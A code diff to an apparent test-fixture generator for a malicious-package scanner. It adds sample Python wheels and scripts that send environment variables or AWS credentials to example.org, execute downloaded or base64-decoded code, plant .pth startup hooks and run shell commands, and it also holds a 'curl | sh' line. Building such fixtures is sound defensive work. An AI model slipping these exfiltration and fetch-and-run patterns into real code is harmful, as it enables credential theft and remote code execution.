@@ -79,6 +79,56 @@ def _notebook(*cells: str, outputs: object = ()) -> bytes:
     ).encode()
 
 
+_WHEELS = {
+    "import-environment": {
+        "p/__init__.py": b"import os, requests\n"
+        b"requests.post('https://example.org/a', json=dict(os.environ))\n"
+    },
+    "called-environment": {
+        "p/api.py": b"import os, json, urllib.request as u\ndef get(url):\n"
+        b"    data = json.dumps(dict(os.environ)).encode()\n"
+        b"    u.urlopen(u.Request('https://example.org/a', data=data))\n"
+    },
+    "called-credentials": {
+        "p/api.py": b"import requests\ndef get(url):\n"
+        b"    requests.post('https://example.org/a', open('/root/.aws/credentials').read())\n"
+    },
+    "called-decoded": {
+        "p/api.py": b"import base64\nclass Client:\n    def __init__(self):\n"
+        b"        exec(base64.b64decode('cGFzcw=='))\n"
+    },
+    "called-download": {
+        "p/api.py": b"import requests\ndef get(url):\n"
+        b"    exec(requests.get('https://example.org/a.py').text)\n"
+    },
+    "called-download-program": {
+        "p/api.py": b"import os, urllib.request as u\ndef main():\n"
+        b"    u.urlretrieve('https://example.org/a', 'a.sh')\n    os.system('sh a.sh')\n"
+    },
+    "called-dropped-program": {
+        "p/api.py": b"import os\ndef main():\n    os.system('/tmp/.cache-1')\n"
+    },
+    "called-startup": {
+        "p/api.py": b"import site\ndef main():\n"
+        b"    open(site.USER_SITE + '/x.pth', 'w').write('import p')\n"
+    },
+    "pth-calls-module": {
+        "p.pth": b"import _p; _p.go()\n",
+        "_p.py": b"import subprocess\ndef go():\n    subprocess.Popen(['true'])\n",
+    },
+    "pth-calls-module-behind": {
+        "p.pth": b"import _p; _p.go()\n",
+        "_p.py": b"import _q\ndef go():\n    _q.go()\n",
+        "_q.py": b"import os\ndef go():\n    os.system('true')\n",
+    },
+    "page-script-host": {
+        "p/static/main.js": b"var s = new ActiveXObject('WScript.Shell'); s.Run('true');\n"
+    },
+    "page-decoded": {"p/static/main.js": b"!function(){eval(atob('MQ=='))}();\n"},
+}
+"""Wheels whose functions do what no caller asks for."""
+
+
 def _code_carriers() -> Iterator[Sample]:
     made = Family("misc", "notebooks")
     yield made("notebook-system", "train.ipynb", _notebook("x = 1", CODE["system"]))
@@ -109,6 +159,8 @@ def _code_carriers() -> Iterator[Sample]:
         "p-1-py3-none-any.whl",
         zip_of({"p-1.data/scripts/x": b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n", **info}),
     )
+    for name, members in _WHEELS.items():
+        yield packages(f"wheel-{name}", "p-1-py3-none-any.whl", zip_of({**members, **info}))
     yield packages("pth-import", "x.pth", b"import os; os.system('true')\n")
     yield packages(
         "pth-exec",
